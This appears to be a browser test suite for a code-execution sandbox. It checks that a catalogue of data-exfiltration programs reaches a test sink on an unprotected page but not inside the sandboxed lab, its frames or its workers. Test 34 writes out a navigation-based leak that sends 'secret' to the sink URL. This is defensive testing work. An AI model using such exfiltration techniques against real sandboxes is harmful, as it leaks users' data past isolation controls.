/** Programs that try to send something out: the sink must not hear a thing. */
import { expect, expectNextRunPasses, test } from "./support/attack-test";
import { gradeInPage, playInPage, entryProgram } from "./support/lab";
import { addSandboxFrame, removeFrame } from "./support/sandbox-frame";
import { PRELUDE, WAYS } from "./support/ways-out";
import { runPlain } from "./support/weak-runs";

function program(ways: Record<string, string>): string {
  const attempts = Object.entries(ways).map(
    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
  );
  return `// @ts-nocheck\n${PRELUDE}\n${attempts.join("\n")}\nawait pause(300);`;
}

for (const [title, waysTo] of Object.entries(WAYS)) {
  test(title, async ({ lab, weak, sink }) => {
    const ways = waysTo(sink);
    for (const [name, code] of Object.entries(ways)) {
      sink.clear();
      await runPlain(weak, program({ [name]: code }), 1_200);
      expect(sink.hits(), `${name} reaches the sink where nothing stops it`).not.toEqual([]);
    }

    sink.clear();
    const played = await playInPage(lab, `${program(ways)}\nprint("tried");`);
    expect(played.stdout).toContain("tried");
    // The same from a function that is graded.
    const body = `(async () => { ${program(ways)} })(); return [0, 0];`;
    expect((await gradeInPage(lab, entryProgram(body))).status).not.toBe("pass");

    // The policy must hold by itself too, where no global has been taken away: in the frame, and in a
    // fresh worker of the frame.
    const frame = await addSandboxFrame(lab);
    await frame.evaluate(
      async ([text, wait]) => {
        const inFrame = new Function(`return (async () => { ${text} })()`);
        await Promise.race([inFrame(), new Promise((resolve) => setTimeout(resolve, wait))]);
        const worker = new Worker(
          URL.createObjectURL(new Blob([`(async () => { ${text} })().then(() => postMessage(1))`])),
        );
        await new Promise((resolve) => {
          worker.onmessage = resolve;
          setTimeout(resolve, wait);
        });
        worker.terminate();
      },
      [program(ways), 5_000] as const,
    );
    await removeFrame(frame);
    expect(sink.hits()).toEqual([]);
  });
}

test("34: the frame navigates itself away", async ({ lab, weak, sink }) => {
  const navigate = (url: string) => `location.href = "${url}/page?d=secret"`;
  await weak.evaluate(
    async ([code]) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.srcdoc = `<script>${code}</script>`;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
    [navigate(sink.url)] as const,
  );
  expect(sink.hits()).not.toEqual([]);

  sink.clear();
  const leaks: string[] = [];
  const listen = (request: { url(): string }) => {
    if (request.url().includes("secret")) leaks.push(request.url());
  };
  lab.on("requestfinished", listen);
  const frame = await addSandboxFrame(lab);
  await frame.evaluate((code) => new Function(code)(), navigate(sink.url)).catch(() => {});
  await lab.waitForTimeout(800);
  // Also to a page of the same site, whose host would log the address.
  await frame
    .evaluate((site) => {
      location.href = `${site}?d=secret`;
    }, new URL("index.html", lab.url()).href)
    .catch(() => {});
  await lab.waitForTimeout(800);
  lab.off("requestfinished", listen);
  expect(sink.hits()).toEqual([]);
  expect(leaks).toEqual([]);
  await removeFrame(frame);
  await expectNextRunPasses(lab);
});
